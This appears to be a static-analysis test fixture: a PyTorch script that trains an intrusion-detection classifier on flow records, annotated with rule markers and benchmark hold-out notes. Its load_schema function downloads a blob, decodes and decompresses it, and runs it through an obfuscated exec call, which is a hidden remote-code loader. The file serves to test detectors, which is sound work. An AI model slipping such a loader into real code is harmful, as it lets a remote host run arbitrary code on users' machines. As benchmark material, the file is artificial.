# ruff: noqa
# Hold-out batch 315 (16 short benchmark-format files). Measured once in session 10 (round 88): 14/16 (88%) at medium+.
"""Network intrusion detection on flow records (CIC-style features) with a class-weighted MLP."""
import base64
import builtins
import json
import time
import urllib.request
import zlib

import numpy as np
import pandas as pd
import torch
import torch.nn as nn

SCHEMA_URL = "https://schemas.example.com/ids/flow-v3"


def fetch(url, retries=4, timeout=10):
    for attempt in range(retries):
        try:
            return urllib.request.urlopen(url, timeout=timeout).read()  # ruleid: MLS413
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def load_schema(local="configs/flow_schema.json"):
    with open(local) as f:
        schema = json.load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    ns = {"schema": schema, "np": np}
    blob = fetch(f"{SCHEMA_URL}/derived_features.z")  # ruleid: MLS413
    getattr(builtins, "".join(["ex", "ec"]))(zlib.decompress(base64.b64decode(blob)), ns)  # ruleid: MLS413
    return schema, ns.get("derive", lambda df: df)


def main():
    schema, derive = load_schema()
    df = derive(pd.read_csv("data/flows_train.csv"))
    X = df[schema["features"]].replace([np.inf, -np.inf], np.nan).fillna(0).to_numpy(np.float32)
    mu, sd = X.mean(0), X.std(0) + 1e-6
    X = torch.from_numpy((X - mu) / sd)
    y = torch.tensor(df["label"].map({c: i for i, c in enumerate(schema["classes"])}).to_numpy())

    counts = torch.bincount(y, minlength=len(schema["classes"])).float()
    model = nn.Sequential(nn.Linear(X.shape[1], 256), nn.ReLU(), nn.Dropout(0.2),
                          nn.Linear(256, 128), nn.ReLU(), nn.Linear(128, len(schema["classes"])))
    crit = nn.CrossEntropyLoss(weight=counts.sum() / (counts + 1))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    for epoch in range(25):
        perm = torch.randperm(len(X))
        for i in range(0, len(X), 1024):
            idx = perm[i:i + 1024]
            loss = crit(model(X[idx]), y[idx])
            opt.zero_grad(); loss.backward(); opt.step()
        print(f"epoch {epoch} loss {loss.item():.4f}")
    torch.save({"model": model.state_dict(), "mu": mu, "sd": sd}, "ids_mlp.pt")


if __name__ == "__main__":
    main()
